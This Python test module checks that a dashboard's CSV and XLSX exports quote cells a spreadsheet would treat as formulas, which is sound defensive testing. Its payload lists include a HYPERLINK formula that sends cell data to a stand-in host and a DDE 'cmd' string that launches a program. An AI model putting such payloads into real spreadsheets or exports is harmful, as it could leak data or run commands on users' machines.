"""The dashboard's exports (CSV and XLSX) are safe to open in a spreadsheet.

The kind of fault: a text cell a spreadsheet takes for a formula (formula / CSV
injection) — a group, site or person name, a flag change's reason or value that
starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return, behind any
leading whitespace — or an export that fails on a character XML cannot carry.
Tested over the range (every formula start × every leading whitespace × several
payloads, and arbitrary text by hypothesis) in every sheet, on the XLSX as a
spreadsheet loads it *and* on its XML (no formula element anywhere), and on the
observed instances (``=HYPERLINK(…)``, ``+cmd``, ``-5``, ``@SUM``), in the style of
``tests/unit/test_ops_csv.py``.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import UTC, datetime, timedelta

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from ivr.cases.funnel import FlagMarker, Funnel, FunnelCell, FunnelCounts
from ivr.cases.report_export import (
    dashboard_xlsx,
    figures_csv,
    figures_table,
    funnel_csv,
    funnel_tables,
)
from ivr.cases.reports import COLUMNS, Dimension, Figures, Report, ReportQuery
from ivr.settings import REPO_ROOT
from ivr.xlsx_export import REPLACEMENT, Sheet, read_back, sheet_title, xlsx_bytes
from tests.unit.cases_report_seed import BOGOTA

DANGEROUS = ["=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20"]
LEADING = ["", " ", "\n", "\r\n", "\t ", "\xa0", "\u3000"]
PAYLOADS = ['HYPERLINK("http://x.example/?"&A1,"ver")', "cmd|' /C calc'!A0", "SUM(A1:A9)", "5", ""]
FORMULA = re.compile(r"^\s*[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]")
OBSERVED = ['=HYPERLINK("http://x.example","clic")', "+cmd|' /C calc'!A0", "-5", "@SUM(A1:A9)"]
START = datetime(2026, 11, 30, tzinfo=BOGOTA)
END = START + timedelta(days=1)


def dangerous_texts() -> list[str]:
    return [
        lead + first + payload for lead in LEADING for first in DANGEROUS for payload in PAYLOADS
    ]


def report_with(keys: list[str], by: Dimension = Dimension.PERSON) -> Report:
    rows = [Figures(key, cases=i + 1, sla_met=1).finish() for i, key in enumerate(keys)]
    total = Figures("total", cases=len(keys), sla_met=len(keys)).finish()
    return Report(ReportQuery(START, END, by), START, rows, total)


def funnel_with(texts: list[str]) -> Funnel:
    hour = START.replace(hour=8)
    cells = [
        FunnelCell(hour, text, FunnelCounts(target=3, booked_phone=1, chats=2)) for text in texts
    ]
    markers = [FlagMarker(hour, text, "set", text, text, {"v": text}, text) for text in texts]
    return Funnel(START, END, None, BOGOTA, cells, markers)


def lf(cell: object) -> object:
    """Line ends as XML reads them back: CR LF and CR are LF."""
    return cell.replace("\r\n", "\n").replace("\r", "\n") if isinstance(cell, str) else cell


def csv_cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def safe(cell: object) -> bool:
    return not isinstance(cell, str) or cell.startswith("'") or not FORMULA.match(cell)


def xlsx_has_no_formula(data: bytes) -> bool:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/")]
        return bool(sheets) and not any(re.search(rb"<f[ >]", z.read(n)) for n in sheets)


# --- the range, in every table the dashboard exports ----------------------------------------
def test_every_formula_start_is_quoted_in_the_figures_csv() -> None:
    texts = dangerous_texts()
    rows = csv_cells(figures_csv(report_with(texts)))
    assert [r[0] for r in rows[1:-1]] == ["'" + t for t in texts]
    assert rows[-1][0] == "Total"
    assert all(safe(c) for r in rows for c in r)


def test_every_formula_start_is_quoted_in_the_funnel_csv() -> None:
    texts = dangerous_texts()
    rows = csv_cells(funnel_csv(funnel_with(texts)))
    assert [r[1] for r in rows[1:]] == ["'" + t for t in texts]
    assert all(safe(c) for r in rows for c in r)


def test_every_formula_start_is_quoted_in_every_sheet_of_the_workbook() -> None:
    texts = dangerous_texts()
    data = dashboard_xlsx(report_with(texts), funnel_with(texts))
    book = read_back(data)
    assert list(book) == ["Indicadores", "Embudo por sede", "Embudo por hora", "Embudo detalle",
                          "Cambios de variables"]  # fmt: skip
    assert xlsx_has_no_formula(data)
    for title, rows in book.items():
        assert all(safe(c) for r in rows for c in r), title
    # XML reads a carriage return as a line feed: compare with both as line feeds
    assert [lf(r[1]) for r in book["Embudo detalle"][1:]] == [lf("'" + t) for t in texts]
    changes = book["Cambios de variables"][1:]
    assert len(changes) == len(texts)
    assert all(str(r[1]).startswith("'") and str(r[5]).startswith("'") and str(r[6]).startswith("'")
               for r in changes)  # fmt: skip


@pytest.mark.parametrize("text", OBSERVED)
def test_the_observed_payloads_are_inert_in_csv_and_xlsx(text: str) -> None:
    report, funnel = report_with([text, "ana"]), funnel_with([text])
    [_, *rows] = csv_cells(figures_csv(report))
    assert rows[0][0] == "'" + text and rows[1][0] == "ana"
    assert csv_cells(funnel_csv(funnel))[1][1] == "'" + text
    data = dashboard_xlsx(report, funnel)
    book = read_back(data)
    assert book["Indicadores"][1][0] == "'" + text
    assert book["Embudo por sede"][1][0] == "'" + text
    assert book["Cambios de variables"][1][6] == "'" + text
    assert xlsx_has_no_formula(data)


def test_figures_stay_numbers_and_negative_numbers_are_not_quoted() -> None:
    figures = Figures("norte", cases=4, first_responses=2, _first_response_sum=7200.0, ratings=2,
                      _rating_sum=17, sentiment_analyses=2, _score_sum=-0.5).finish()  # fmt: skip
    report = Report(ReportQuery(START, END, Dimension.SITE), START, [figures], figures)
    header, _ = figures_table(report)
    assert header[0] == "Sede" and header[1:] == [label for _, label in COLUMNS]
    book = read_back(dashboard_xlsx(report, funnel_with([])))
    row = dict(zip(book["Indicadores"][0], book["Indicadores"][1], strict=True))
    assert row["Casos radicados"] == 4 and row["Primera respuesta promedio (s hábiles)"] == 3600
    assert row["Calificación promedio (1-10)"] == 8.5
    assert row["Sentimiento promedio (-1 a 1)"] == -0.25  # a number: summable, not quoted
    [csv_row] = [r for r in csv_cells(figures_csv(report))[1:] if r[0] == "norte"]
    assert "-0.25" in csv_row


def test_the_funnel_sheets_sum_up() -> None:
    funnel = funnel_with(["norte", "sur", "norte"])
    sheets = {s.title: [list(r) for r in s.rows] for s in funnel_tables(funnel)}
    by_site = {r[0]: r[1] for r in sheets["Embudo por sede"]}
    assert by_site == {"norte": 6, "sur": 3, "Total": 9}
    assert [r[0] for r in sheets["Embudo por hora"]][:2] == ["00:00", "01:00"]
    assert sheets["Embudo por hora"][8][1] == 9


# --- the XLSX writer itself ---------------------------------------------------------------------
CHARS = st.sampled_from(sorted({*DANGEROUS, *"".join(LEADING), "a", "1", "'", '"', "é", "\x00",
                                "\x07", "\x0b", "\x1c", "\x1f"}))  # fmt: skip


@settings(max_examples=150, derandomize=True, database=None, deadline=None)
@given(texts=st.lists(st.text(CHARS, max_size=6), min_size=1, max_size=6))
def test_any_text_is_written_safe_and_whole_but_for_characters_xml_cannot_carry(
    texts: list[str],
) -> None:
    data = xlsx_bytes([Sheet("Datos", ["texto"], [[t] for t in texts])])
    assert xlsx_has_no_formula(data)
    rows = read_back(data)["Datos"][1:]
    back = [r[0] if r else None for r in rows]
    for text, cell in zip(texts, back + [None] * (len(texts) - len(back)), strict=True):
        clean = re.sub(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", REPLACEMENT, text)
        want = ("'" + clean if FORMULA.match(text) else clean) or None
        assert lf(cell) == lf(want), (text, cell)
        assert safe(cell)


@pytest.mark.parametrize(
    ("title", "cleaned"),
    [("Embudo por sede", "Embudo por sede"), ("a/b:c*d?e[f]g\\h", "a-b-c-d-e-f-g-h"),
     ("x" * 40, "x" * 31), ("", "Hoja"), ("'citas'", "citas")],
)  # fmt: skip
def test_sheet_titles_follow_excel_rules(title: str, cleaned: str) -> None:
    assert sheet_title(title) == cleaned
    assert list(read_back(xlsx_bytes([Sheet(title, ["a"], [])]))) == [cleaned]


def test_a_workbook_needs_sheets_with_distinct_titles() -> None:
    with pytest.raises(ValueError):
        xlsx_bytes([])
    with pytest.raises(ValueError):
        xlsx_bytes([Sheet("a/b", [], []), Sheet("a:b", [], [])])


def test_no_other_xlsx_writer_in_the_product() -> None:
    offenders = []
    for path in sorted((REPO_ROOT / "ivr").rglob("*.py")):
        rel = path.relative_to(REPO_ROOT).as_posix()
        if rel == "ivr/xlsx_export.py":
            continue
        source = path.read_text(encoding="utf-8")
        if re.search(r"^\s*(import|from)\s+(openpyxl|xlsxwriter)\b", source, re.MULTILINE):
            offenders.append(rel)
    assert offenders == [], "write XLSX with ivr.xlsx_export"


def test_the_doctests_run() -> None:
    import doctest

    from ivr import xlsx_export
    from ivr.cases import funnel, reports

    for module in (xlsx_export, reports, funnel):
        result = doctest.testmod(module)
        assert result.failed == 0, module.__name__
    assert doctest.testmod(xlsx_export).attempted >= 2


def test_times_in_the_exports_are_local_wall_times() -> None:
    funnel = funnel_with(["norte"])
    [[hour, site, *_]] = [list(r) for r in funnel_tables(funnel)[2].rows]
    assert (hour, site) == ("2026-11-30 08:00", "norte")
    assert funnel.cells[0].hour.astimezone(UTC).hour == 13
